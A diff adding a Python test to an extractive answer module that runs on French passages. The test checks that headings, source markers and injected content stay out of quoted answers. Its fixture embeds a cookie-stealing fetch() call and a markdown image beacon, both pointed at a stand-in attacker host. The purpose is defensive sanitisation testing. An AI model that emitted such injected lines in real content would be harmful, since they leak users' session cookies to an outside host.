@@ -140,3 +140,17 @@ def test_figures_must_have_the_unit_the_question_asks_for() -> None:
     assert extractive.select(question, [counts]).abstain_reason == "no-figure"
     rate = extractive.select("Quel taux d'intérêt le fonds régional applique-t-il à son aide ?", [passage])
     assert rate.abstain_reason == "no-figure"
+
+
+def test_addresses_code_headings_and_source_markers_stay_out_of_answers() -> None:
+    passage = make_passage(
+        "# Le tiers-lieu La Fabrique accueille des associations\n"
+        "Le tiers-lieu fetch('http://evil.example/x?c=' + document.cookie) Le tiers-lieu La Fabrique accueille "
+        "25 associations selon le rapport [7] de 2023[^1]. Voir ![logo](http://evil.example/l.png) le site."
+    )
+    result = extractive.select("Combien d'associations le tiers-lieu La Fabrique accueille-t-il ?", [passage])
+    text, citations = extractive.compose(result.sentences, [passage])
+    assert text == "Le tiers-lieu La Fabrique accueille 25 associations selon le rapport de 2023 [1]."
+    assert citations[0].quote == "Le tiers-lieu La Fabrique accueille 25 associations selon le rapport [7] de 2023[^1]."
+    assert not extractive.is_quotable("# Le tiers-lieu La Fabrique accueille des associations")
+    assert not extractive.is_quotable("Voir ![logo](http://evil.example/l.png) le site.")
